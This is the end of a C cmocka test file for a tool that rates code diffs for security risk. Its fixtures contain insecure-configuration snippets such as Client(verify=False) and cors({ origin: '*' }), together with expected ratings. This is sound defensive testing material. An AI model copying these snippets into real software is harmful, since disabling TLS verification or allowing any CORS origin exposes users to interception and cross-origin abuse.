		{ "comment", { "a.py", "a = 1\n", "a = 1  # never verify=False\n" }, { 0 }, "none" },
		{ "a test", { "tests/test_a.py", "a = 1\n", "c = Client(verify=False)\n" }, { 0 }, "medium" },
		{ "on again", { "a.py", "c = Client(verify=False)\n", "c = Client(verify=True)\n" }, { 0 }, "none" },
		{ "moved", { "a.py", "c = get(u, verify=False)\n", "a = 1\n" }, { "b.py", "a = 1\n", "c = get(u, verify=False)\n" }, "none" },
		{ "verify method", { "a.ts", "a\n", "if (verify(token) === false) throw e;\n" }, { 0 }, "none" },
		{ "re-wrapped", { "a.js", "cors({ origin: '*', a: 1 })\n", "cors({\n  origin: \"*\",\n  a: 1\n})\n" }, { 0 }, "none" },
		{ "narrowed", { "app.js", "cors({ origin: '*' })\n", "cors({ origin: 'https://a' })\n" }, { 0 }, "none" },
		{ "a page", { "docs/tls.md", "a\n", "Never write verify=False.\n" }, { 0 }, "none" },
		{ "plain yaml", { "a.yml", "a: 1\n", "a: 2\n" }, { 0 }, "none" },
		{ "curl -K", { "x.sh", "a\n", "curl -fsSL https://x -o y\n" }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("IAC-OTH", t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(npm),	   cmocka_unit_test(test_commands),  cmocka_unit_test(python),	cmocka_unit_test(programs_of_c),
		cmocka_unit_test(scripts), cmocka_unit_test(other_programs), cmocka_unit_test(images),	cmocka_unit_test(source),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
